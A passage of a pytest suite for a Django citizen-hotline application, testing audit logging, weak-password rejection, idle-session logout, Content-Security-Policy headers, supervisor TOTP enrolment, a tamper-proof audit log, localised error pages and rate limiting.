    assert rows == [("login", None, "nobody_here", "失败", "10.9.8.7"),
                    ("login", "operator_li", "operator_li", "成功", "10.9.8.7"),
                    ("logout", "operator_li", "operator_li", "主动退出", "10.9.8.7")]
    auditor = Client()
    auditor.force_login(people["auditor_wu"])
    page = auditor.get(reverse("audit_log"), {"action": "login"}).content.decode()
    assert "nobody_here" in page and "结果 失败" in page and "10.9.8.7" in page
    assert "退出登录" in auditor.get(reverse("audit_log"), {"action": "logout"}).content.decode()


@pytest.mark.parametrize("password", ["hotline12345", "Hotline12345", "woaini1314", "a1b2c3d4e5", "1qaz2wsx3edc",
                                      "zhangwei2023", "88888888888", "12345678901", "dispatcher_wang1",
                                      "wang-dispatcher", "short1!", "onlylettershere"])
def test_password_rules_refuse_weak_passwords(people, password):
    from django.contrib.auth.password_validation import validate_password
    from django.core.exceptions import ValidationError

    with pytest.raises(ValidationError):
        validate_password(password, people["dispatcher_wang"])


def test_password_rules_accept_a_good_one_and_the_list_is_generated_here(people):
    from django.contrib.auth.password_validation import validate_password

    from hotline.accounts.passwords import common_passwords

    validate_password("Lamp-post 47 east", people["dispatcher_wang"])
    listed = common_passwords()
    assert {"hotline12345", "woaini1314", "a1b2c3", "123456", "5201314", "zhangwei888"} <= listed
    assert 2000 < len(listed) < 20000


def test_password_form_refuses_the_demo_password_and_takes_a_good_one(client, people):
    wang = people["dispatcher_wang"]
    client.force_login(wang)
    url = reverse("password_change")
    assert client.get(url).status_code == 200
    response = client.post(url, {"old_password": RIGHT, "new_password1": "hotline12345", "new_password2": "hotline12345"})
    assert response.status_code == 200 and "过于常见" in response.content.decode()
    wang.refresh_from_db()
    assert wang.check_password(RIGHT)
    response = client.post(url, {"old_password": RIGHT, "new_password1": "Lamp-post 47 east",
                                 "new_password2": "Lamp-post 47 east"})
    assert response.status_code == 302
    assert login_post(Client(), "dispatcher_wang", "Lamp-post 47 east").status_code == 302
    assert login_post(Client(), "dispatcher_wang", RIGHT).status_code == 200  # the old one no longer works


def test_production_gives_demo_people_no_common_password(ruzhou, settings):
    from django.core.management import CommandError, call_command

    from hotline.accounts.models import User
    from hotline.demo.people import WeakDemoPassword, _hashed, ensure_people

    settings.PRODUCTION = True
    _hashed.cache_clear()
    try:
        with pytest.raises(WeakDemoPassword):
            ensure_people("hotline12345")
        with pytest.raises(CommandError, match="生产环境"):
            call_command("demo", "--no-serve", "--password", "hotline12345")
        with pytest.raises(CommandError, match="生产环境"):
            call_command("generate", "--orders", "50", "--password", "12345678901")
        assert not User.objects.exists() and not WorkOrder.objects.exists()
        ensure_people("Lamp-post 47 east")  # `hotline demo --password …` with a password the rules accept
        assert login_post(Client(), "supervisor_zhou", "Lamp-post 47 east").status_code == 302
    finally:
        _hashed.cache_clear()
    settings.PRODUCTION = False
    ensure_people("hotline12345")  # the demo itself keeps its documented password
    assert login_post(Client(), "supervisor_zhou", "hotline12345").status_code == 302


def test_idle_staff_sessions_are_logged_out(people, settings):
    import time_machine

    settings.HOTLINE_IDLE_MINUTES = 30
    c = Client()
    with time_machine.travel(dt.datetime(2026, 3, 2, 9, 0, tzinfo=dt.UTC), tick=False) as clock:
        assert login_post(c, "dispatcher_wang", RIGHT).status_code == 302
        clock.shift(dt.timedelta(minutes=29))
        assert logged_in(c)  # activity restarts the clock
        clock.shift(dt.timedelta(minutes=29))
        assert logged_in(c)
        clock.shift(dt.timedelta(minutes=31))
        response = c.get(reverse("dispatch"))
        assert response.status_code == 302 and response["Location"].startswith(reverse("login"))
        assert AuditLog.objects.filter(action="logout", detail__result="长时间未操作自动退出").count() == 1
        assert not logged_in(c)
        # An htmx request sends the whole window to the login page instead of swapping it into a panel.
        assert login_post(c, "dispatcher_wang", RIGHT).status_code == 302
        clock.shift(dt.timedelta(minutes=31))
        response = c.get(reverse("dispatch"), HTTP_HX_REQUEST="true")
        assert response["HX-Redirect"] == reverse("login")
        # The API answers 401 to an idle session.
        assert login_post(c, "dispatcher_wang", RIGHT).status_code == 302
        clock.shift(dt.timedelta(minutes=31))
        assert c.get(reverse("api:order_detail", args=["RZ2307-000001"])).status_code == 401


def _template_files():
    from pathlib import Path

    import hotline

    return sorted(Path(hotline.__file__).parent.rglob("templates/**/*.html"))


def test_no_template_has_inline_script_or_handlers():
    import re

    inline = re.compile(r"<script(?![^>]*\bsrc=)(?![^>]*application/(ld\+)?json)[^>]*>", re.I)
    handler = re.compile(r"\son[a-z]+\s*=", re.I)
    files = _template_files()
    assert len(files) > 40
    for path in files:
        text = path.read_text(encoding="utf-8")
        assert not inline.search(text), f"{path}: inline <script>"
        assert not handler.search(text), f"{path}: on…= handler attribute"
        assert "javascript:" not in text, path


def test_pages_carry_the_csp_and_no_store(client, people, world):
    client.force_login(people["supervisor_zhou"])
    y = world["y"]
    for url in (reverse("home"), reverse("dashboard"), reverse("order_detail", args=[y.number]),
                reverse("order_list"), reverse("order_export"), reverse("api:order_detail", args=[y.number]),
                reverse("assessment:export", args=[2023, 7]), reverse("briefing:edit", args=[2023, 7])):
        response = client.get(url)
        assert response.status_code == 200, url
        assert "no-store" in response["Cache-Control"], url
        csp = response["Content-Security-Policy"]
        script_src = next(d for d in csp.split(";") if d.strip().startswith("script-src"))
        assert script_src.split() == ["script-src", "'self'"], url
        assert "frame-ancestors 'none'" in csp and "object-src 'none'" in csp
        if response["Content-Type"].startswith("text/html"):
            import re

            scripts = re.findall(r"<script[^>]*>", response.content.decode())
            assert all("src=" in s or 'type="application/json"' in s for s in scripts), (url, scripts)
    anonymous = Client().get(reverse("portal:index"))
    assert "Content-Security-Policy" in anonymous
    assert "no-store" not in anonymous.get("Cache-Control", "")  # a page without personal data may be cached


def test_portal_tracking_pages_are_no_store(client, people, world):
    y = world["y"]
    response = client.post(reverse("portal:track"), {"number": y.number, "phone": CALLER_PHONE})
    assert response.status_code == 302
    detail = client.get(response["Location"])
    assert detail.status_code == 200 and y.number in detail.content.decode()
    assert "no-store" in detail["Cache-Control"]
    assert "no-store" in client.get(reverse("portal:track"))["Cache-Control"]


def _totp(device) -> str:
    from django_otp.oath import totp

    return str(totp(device.bin_key, step=device.step, t0=device.t0, digits=device.digits)).zfill(device.digits)


SUPERVISOR_PAGES = ["supervision", "dashboard", "briefing:list", "assessment:appeals", "order_list"]


def test_supervisor_without_a_verified_device_reaches_nothing_when_totp_is_required(people, world, settings):
    import time_machine
    from django_otp.plugins.otp_totp.models import TOTPDevice

    settings.HOTLINE_OTP_REQUIRED = True
    c = Client()
    with time_machine.travel(dt.datetime(2026, 3, 2, 9, 0, tzinfo=dt.UTC), tick=False) as clock:
        assert login_post(c, "supervisor_zhou", RIGHT).status_code == 302
        for name in SUPERVISOR_PAGES:
            response = c.get(reverse(name))
            assert response.status_code == 302 and response["Location"].startswith(reverse("otp_setup")), name
        assert c.get(reverse("api:order_detail", args=[world["y"].number])).status_code == 403
        # Enrolment: the secret and its otpauth address are shown; a wrong code confirms nothing.
        page = c.get(reverse("otp_setup"), {"next": reverse("supervision")}).content.decode()
        assert "otpauth://totp/" in page and "<svg" in page
        device = TOTPDevice.objects.get(user=people["supervisor_zhou"])
        assert not device.confirmed
        wrong = str((int(_totp(device)) + 1) % 1_000_000).zfill(6)
        assert "验证码不正确" in c.post(reverse("otp_setup"), {"token": wrong}).content.decode()
        assert c.get(reverse("supervision")).status_code == 302
        clock.shift(dt.timedelta(seconds=5))  # django-otp throttles: a second try waits after a failure
        response = c.post(reverse("otp_setup"), {"token": _totp(device), "next": reverse("supervision")})
        assert response.status_code == 302 and response["Location"] == reverse("supervision")
        for name in SUPERVISOR_PAGES:
            assert c.get(reverse(name)).status_code == 200, name
        # A new session asks for the code after the password; the password alone reaches nothing.
        other = Client()
        assert login_post(other, "supervisor_zhou", RIGHT).status_code == 302
        response = other.get(reverse("supervision"))
        assert response.status_code == 302 and response["Location"].startswith(reverse("otp_verify"))
        # Enrolling a second device is no way around the first.
        assert other.get(reverse("otp_setup"))["Location"].startswith(reverse("otp_verify"))
        assert "验证码不正确" in other.post(reverse("otp_verify"), {"token": "000000x"}).content.decode()
        clock.shift(dt.timedelta(seconds=60))
        device.refresh_from_db()
        assert other.post(reverse("otp_verify"), {"token": _totp(device)}).status_code == 302
        assert other.get(reverse("supervision")).status_code == 200
    results = list(AuditLog.objects.filter(actor=people["supervisor_zhou"], action="login")
                   .order_by("id").values_list("detail__result", flat=True))
    assert results == ["成功", "启用两步验证", "成功", "两步验证码错误", "两步验证通过"]


def test_totp_roles_only_and_optional_in_the_demo(people, settings):
    settings.HOTLINE_OTP_REQUIRED = True
    for username in ("operator_li", "dispatcher_wang", "handler_zhao"):
        c = Client()
        c.force_login(people[username])
        assert c.get(reverse("home")).status_code == 200, username
    for username in ("auditor_wu", "admin"):
        c = Client()
        c.force_login(people[username])
        assert c.get(reverse("home"))["Location"].startswith(reverse("otp_setup")), username
    settings.HOTLINE_OTP_REQUIRED = False
    c = Client()
    c.force_login(people["supervisor_zhou"])
    assert c.get(reverse("supervision")).status_code == 200  # the demo: optional until enrolled


def test_unit_order_views_and_exports_are_audited(client, people, world):
    y = world["y"]
    client.force_login(people["handler_zhao"])
    assert client.get(reverse("order_detail", args=[y.number])).status_code == 200
    assert client.get(reverse("order_detail", args=[y.number]), {"print": "1"}).status_code == 200
    assert client.get(reverse("api:order_detail", args=[y.number])).status_code == 200
    assert client.get(reverse("order_export")).status_code == 200
    views = AuditLog.objects.filter(action="view_order", actor=people["handler_zhao"], object_id=y.number)
    assert sorted(views.values_list("detail__via", flat=True)) == ["api", "page", "print"]
    assert AuditLog.objects.filter(action="export", actor=people["handler_zhao"]).count() == 1
    # 钱 asking for 杨楼镇's order sees nothing, and opened nothing.
    client.force_login(people["handler_qian"])
    assert client.get(reverse("order_detail", args=[y.number])).status_code == 404
    assert not AuditLog.objects.filter(action="view_order", actor=people["handler_qian"]).exists()
    # Center staff are audited where data leaves: reveals and exports, not every page.
    client.force_login(people["dispatcher_wang"])
    client.get(reverse("order_detail", args=[y.number]))
    assert not AuditLog.objects.filter(action="view_order", actor=people["dispatcher_wang"]).exists()
    client.force_login(people["supervisor_zhou"])
    assert client.get(reverse("assessment:export", args=[2023, 7])).status_code == 200
    assert AuditLog.objects.filter(action="export", actor=people["supervisor_zhou"],
                                   object_type="assessment.monthlyresult").count() == 1


@pytest.mark.django_db(transaction=True)
def test_backup_is_audited_as_an_export(people, tmp_path):
    from django.core.management import call_command
    from django.db import connection

    if connection.vendor == "postgresql":
        import shutil

        assert shutil.which("pg_dump"), "pg_dump is needed for a PostgreSQL backup"
    out = tmp_path / "hotline.backup"
    call_command("backup", "-o", str(out))
    row = AuditLog.objects.get(action="export", object_type="backup")
    assert row.object_id == out.name and row.detail["bytes"] == out.stat().st_size and row.actor is None


def test_nobody_edits_or_deletes_the_audit_log(client, people):
    """等保 安全审计 c): the records are protected against deletion and change, the admin's included."""
    client.force_login(people["admin"])
    client.post(reverse("login"), {"username": "nobody", "password": "wrong"})  # a failure to keep
    row = AuditLog.objects.order_by("-pk").first()
    before = AuditLog.objects.count()
    base = f"/admin/accounts/auditlog/{row.pk}"
    assert client.get("/admin/accounts/auditlog/").status_code == 200
    assert client.post(f"{base}/delete/", {"post": "yes"}).status_code == 403
    assert client.post(f"{base}/change/", {"action": "view", "object_id": "x"}).status_code == 403
    assert client.get("/admin/accounts/auditlog/add/").status_code == 403
    listing = client.post("/admin/accounts/auditlog/", {"action": "delete_selected", "_selected_action": [row.pk],
                                                       "post": "yes"})
    assert listing.status_code in (200, 302)
    after = AuditLog.objects.filter(pk=row.pk).values_list("action", "object_id").first()
    assert after == (row.action, row.object_id) and AuditLog.objects.count() >= before


@pytest.mark.parametrize("username", ["operator_li", "auditor_wu"])
def test_assessment_does_not_loop_for_roles_without_it(client, people, username):
    client.force_login(people[username])
    response = client.get(reverse("assessment:index"), follow=True)
    assert len(response.redirect_chain) <= 1
    assert response.status_code == 403
    text = response.content.decode()
    assert "无权访问" in text and "考核结果只对" in text


def test_assessment_landing_for_roles_with_it(client, people):
    client.force_login(people["handler_zhao"])
    assert client.get(reverse("assessment:index"), follow=True).status_code == 200
    client.force_login(people["dispatcher_wang"])
    response = client.get(reverse("assessment:mine"), follow=True)
    assert response.status_code == 200 and response.redirect_chain[-1][0] == reverse("assessment:index")


def test_error_pages_are_chinese_and_list_no_urls(client, people, rf):
    from django.views.defaults import server_error

    for c in (Client(), client):
        response = c.get("/no-such-page/")
        text = response.content.decode()
        assert response.status_code == 404 and "页面不存在" in text
        assert "URLconf" not in text and "urlpatterns" not in text.lower() and "/no-such-page/" not in text
        client.force_login(people["operator_li"])
    response = server_error(rf.get("/"))
    assert response.status_code == 500 and "系统暂时出错" in response.content.decode()


def _settings_in_subprocess(env: dict, expr: str) -> str:
    import os
    import subprocess
    import sys

    base = {k: v for k, v in os.environ.items() if k not in {"DEBUG", "HOTLINE_ENV", "REDIS_URL"}}
    code = f"import django, os; os.environ.setdefault('DJANGO_SETTINGS_MODULE', 'hotline.settings'); django.setup(); from django.conf import settings; print({expr})"
    return subprocess.run([sys.executable, "-c", code], env={**base, "DATABASE_URL": "sqlite:///:memory:", **env},
                          capture_output=True, text=True, check=True).stdout.strip()


def test_debug_only_when_a_developer_asks():
    assert _settings_in_subprocess({}, "settings.DEBUG") == "False"  # the demo and a plain serve
    assert _settings_in_subprocess({"HOTLINE_ENV": "development"}, "settings.DEBUG") == "True"
    assert _settings_in_subprocess({"HOTLINE_ENV": "production", "SECRET_KEY": "x" * 60,
                                    "ALLOWED_HOSTS": "h.example"}, "settings.DEBUG") == "False"


def test_serve_with_workers_never_runs_debug(monkeypatch):
    import os

    from django.core.management import call_command

    seen = []
    monkeypatch.setattr("shutil.which", lambda name: "/usr/bin/" + name)
    monkeypatch.setattr(os, "execve", lambda path, cmd, env: seen.append((cmd, env)))
    for env, debug in (({"DEBUG": "1"}, "0"), ({"HOTLINE_ENV": "production"}, "0"), ({}, "0"),
                       ({"HOTLINE_ENV": "development", "DEBUG": "1"}, "1")):
        monkeypatch.delenv("DEBUG", raising=False)
        monkeypatch.delenv("HOTLINE_ENV", raising=False)
        for k, v in env.items():
            monkeypatch.setenv(k, v)
        call_command("serve", "--no-worker", "--workers", "2", "--addr", "127.0.0.1:9999")
        cmd, child_env = seen.pop()
        assert cmd[1:] == ["hotline.wsgi:application", "--bind", "127.0.0.1:9999", "--workers", "2",
                           "--worker-class", "gthread", "--threads", "16"]
        assert child_env.get("DEBUG") == debug, env


def test_rate_limits_count_in_the_shared_cache(client, people, world):
    from django.core.cache import caches
    from django.db import connection

    assert _settings_in_subprocess({}, "settings.CACHES['shared']['BACKEND']").endswith("DatabaseCache")
    assert _settings_in_subprocess({"REDIS_URL": "redis://127.0.0.1:6379/0"},
                                   "settings.CACHES['shared']['BACKEND']").endswith("RedisCache")
    caches["shared"].clear()
    for _ in range(3):
        client.post(reverse("portal:track"), {"number": "RZ0000-000000", "phone": "13000000000"})
    with connection.cursor() as cursor:  # the counter is a row every app process reads, not process memory
        cursor.execute("SELECT cache_key FROM hotline_shared_cache")
        keys = [row[0] for row in cursor.fetchall()]
    assert any("portal:rl:lookup:127.0.0.1" in key for key in keys), keys
